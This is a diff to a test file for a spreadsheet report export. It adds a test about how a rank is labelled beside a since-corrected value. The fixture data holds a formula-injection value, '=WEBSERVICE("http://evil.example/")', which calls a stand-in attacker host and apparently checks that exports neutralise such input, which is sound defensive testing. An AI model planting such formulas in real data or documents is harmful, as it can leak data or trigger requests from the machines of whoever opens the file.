@@ -20,6 +20,7 @@ await db().metric.update({
   data: { name: '=WEBSERVICE("http://evil.example/")', description: '<p>@сумма &lt;1&gt;</p><p>+7</p>' },
 })
 await db().metricCategory.update({ where: { id: world.categoryId }, data: { name: '-Категория' } })
+await publishAfresh()
 
 const query = (text: Record<string, string>) => reportExportQuerySchema.parse(text)
 
@@ -375,4 +376,14 @@ it('A5 names no other organisation, and a group of four shows no comparison', as
   expect(valuesIn(rowsOf(workbook, 'Частота').Значение)).toEqual([90, 60, null, null, 80])
   // Variables of the group: only the own 4/200 and so on are there.
   expect(numbersOf('b — Величина b')).toEqual([200, 100, 300, 200, 100, 300, 200, 200])
+})
+
+it('a place beside a value corrected since is told to be of the published one', async () => {
+  await db().comparisonFact.updateMany({
+    where: { companyId: world.companies[3] ?? 0, metricId: world.metrics.m2, year: 2025, quarter: 1 },
+    data: { a: 20 },
+  })
+  const { workbook } = await workbookOf(3)
+  const { Значение, Место, Примечание } = figuresOf(workbook, 'Частота')
+  expect([Значение?.[0], Место?.[0], Примечание?.[0]]).toEqual([100, 3, 'место в выпуске, при 90,00'])
 })
